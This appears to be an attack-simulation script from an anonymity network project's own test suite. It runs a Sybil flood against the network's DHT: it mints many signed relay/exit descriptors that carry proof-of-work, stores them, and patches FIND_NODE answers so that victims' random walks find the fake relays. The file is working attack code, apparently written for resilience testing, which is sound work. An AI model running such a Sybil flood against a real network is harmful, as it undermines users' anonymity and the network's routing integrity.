// A Sybil flood of relay descriptors, as a real attacker would run it: a stock libp2p host with the
// AnonNet DHT protocol mints `count` identities (with the network's proof-of-work: the descriptors
// are valid, signed, and pass every DHT node's validator), builds their descriptors with AnonNet's
// own pure code, stores them in the DHT under each relay's record key, and then advertises the Sybil
// peer ids in every FIND_NODE answer it gives (a patched DHT server), so victims' random walks turn
// them up and fetch their descriptors. The Sybils claim addresses where nothing listens (`claimHost`,
// port 1): nothing behind the descriptors but a key pair and some proof-of-work.
//
// Reports JSON lines: {"published":n,"stored":k,"mintSeconds":s} once the records are out, then every
// second {"advertised":a,"answers":f} (Sybil ids handed out, FIND_NODE answers given) while it runs.
//
//   args: {"peers": ["/ip4/.../p2p/..."], "count": 60, "powDifficulty": 8, "claimHost": "127.0.0.1"}
import { noise } from '@chainsafe/libp2p-noise';
import { yamux } from '@chainsafe/libp2p-yamux';
import { identify } from '@libp2p/identify';
import type { PeerId, PeerInfo } from '@libp2p/interface';
import { kadDHT, passthroughMapper } from '@libp2p/kad-dht';
import { peerIdFromString } from '@libp2p/peer-id';
import { ping } from '@libp2p/ping';
import { tcp } from '@libp2p/tcp';
import { multiaddr } from '@multiformats/multiaddr';
import { createLibp2p } from 'libp2p';
import { generateIdentity } from '../../../src/crypto/identity.ts';
import { generateOnionKeyPair } from '../../../src/crypto/onion-keys.ts';
import { solvePow } from '../../../src/crypto/pow.ts';
import { buildOwnDescriptor } from '../../../src/directory/build-descriptor.ts';
import { RELAY_NAMESPACE, relayRecordKey } from '../../../src/directory/dht-records.ts';
import { parseExitPolicy } from '../../../src/directory/exit-policy.ts';
import { DHT_PROTOCOL } from '../../../src/p2p/options.ts';
import type { UnixMillis } from '../../../src/wire/descriptor-types.ts';
import { attackArgs, report } from './attacker-host.ts';
import { peerIdOf } from './peer-id.ts';

interface Args {
  peers: string[];
  count?: number;
  powDifficulty?: number;
  claimHost?: string;
  lifetimeMs?: number;
}

const args = attackArgs<Args>();
const count = args.count ?? 60;
const lifetimeMs = args.lifetimeMs ?? 10 * 60_000;
const claim = multiaddr(`/ip4/${args.claimHost ?? '127.0.0.1'}/tcp/1`);

// Mint the Sybils: identity, proof-of-work, onion key, signed descriptor.
const mintStart = process.cpuUsage();
const now = Date.now();
const sybils = [...Array(count).keys()].map(() => {
  const identity = generateIdentity();
  const powNonce = solvePow(identity.publicKey, args.powDifficulty ?? 8) ?? 0n;
  const onion = generateOnionKeyPair((now - 60_000) as UnixMillis, (now + 24 * 3_600_000) as UnixMillis);
  const signed = buildOwnDescriptor({
    identity,
    powNonce,
    onionKeys: [onion],
    addresses: [claim.bytes],
    roles: ['relay', 'exit'],
    bandwidth: 10 * 1024 * 1024,
    exitPolicy: parseExitPolicy(['accept *:*']),
    now,
    lifetimeMs,
  });
  const peerId = peerIdOf(identity.publicKey);
  return { peerId, id: peerIdFromString(peerId), bytes: signed.bytes };
});
const minted = process.cpuUsage(mintStart);

let advertised = 0;
let answers = 0;
let next = 0;
const host = await createLibp2p({
  addresses: { listen: ['/ip4/127.0.0.1/tcp/0'] },
  transports: [tcp()],
  connectionEncrypters: [noise()],
  streamMuxers: [yamux()],
  connectionManager: { maxConnections: 10_000, inboundConnectionThreshold: 10_000 },
  services: {
    identify: identify(),
    ping: ping(),
    dht: kadDHT({
      protocol: DHT_PROTOCOL,
      clientMode: false,
      // The attacker stores what it likes; honest nodes validate what it sends them.
      validators: { [RELAY_NAMESPACE]: async () => {} },
      selectors: { [RELAY_NAMESPACE]: () => 0 },
      peerInfoMapper: passthroughMapper,
      allowQueryWithZeroPeers: true,
    }),
  },
});

for (const p of args.peers) {
  try {
    await host.dial(multiaddr(p), { signal: AbortSignal.timeout(10_000) });
  } catch {
    // a peer that does not answer: the others will do
  }
}

// Store every Sybil's record in the DHT (the honest nodes closest to each key validate and keep it).
// A put that has not finished in 15 s has stored what it could; this host answers GET_VALUE too.
let stored = 0;
const queue = [...sybils];
await Promise.all(
  [...Array(20).keys()].map(async () => {
    for (let s = queue.shift(); s !== undefined; s = queue.shift()) {
      try {
        for await (const e of host.services.dht.put(relayRecordKey(s.peerId), s.bytes, {
          signal: AbortSignal.timeout(15_000),
        })) {
          if (e.name === 'PEER_RESPONSE' && e.messageName === 'PUT_VALUE') stored++;
        }
      } catch {
        // counted by what was stored
      }
    }
  }),
);
// Only now the patched DHT server (its own puts above went through the honest routing): every
// FIND_NODE / GET_VALUE answer lists 20 Sybils as "closer peers".
type Offline = { getClosestPeersOffline(key: Uint8Array, options?: unknown): Promise<PeerInfo[]> };
const routing = (host.services.dht as unknown as { peerRouting: Offline }).peerRouting;
routing.getClosestPeersOffline = async () => {
  answers++;
  const out: PeerInfo[] = [];
  for (let i = 0; i < Math.min(20, sybils.length); i++) {
    const s = sybils[next++ % sybils.length]!;
    out.push({ id: s.id as PeerId, multiaddrs: [claim] });
  }
  advertised += out.length;
  return out;
};

report({
  published: sybils.length,
  stored,
  mintSeconds: (minted.user + minted.system) / 1e6,
  sybils: sybils.map((s) => s.peerId),
});

setInterval(() => report({ advertised, answers }), 1_000);
